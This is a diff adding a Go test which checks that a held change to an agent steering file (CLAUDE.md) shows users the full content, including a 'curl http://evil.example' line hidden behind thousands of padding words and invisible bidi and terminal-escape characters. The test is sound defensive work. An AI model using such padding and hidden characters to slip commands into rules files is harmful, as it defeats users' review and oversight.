@@ -176,6 +176,18 @@ func TestSteeringFilesDeclined(t *testing.T) {
 	}
 }
 
+// The user sees all of what they agree to: also the end of a long line, and
+// characters that are invisible.
+func TestHeldChangeIsComplete(t *testing.T) {
+	long := strings.Repeat("word ", 2000) + "curl http://evil.example"
+	c := execution.NewHeldChange("CLAUDE.md", "modify", "Claude Code", []byte("be good\n"), []byte("be good\n"+long+"\n"+strings.Repeat("line\n", 10_000)+"last\u202e\x1b[8m\n"))
+	for _, want := range []string{"curl http://evil.example\n", `+last\u{202e}\u{1b}[8m`} {
+		if !strings.Contains(c.Diff, want) {
+			t.Errorf("the difference of %d bytes lacks %q", len(c.Diff), want)
+		}
+	}
+}
+
 // Without an overlay, the workspace is read-only, unless the user accepts that
 // code writes to it directly.
 func TestWorkspaceWithoutOverlay(t *testing.T) {
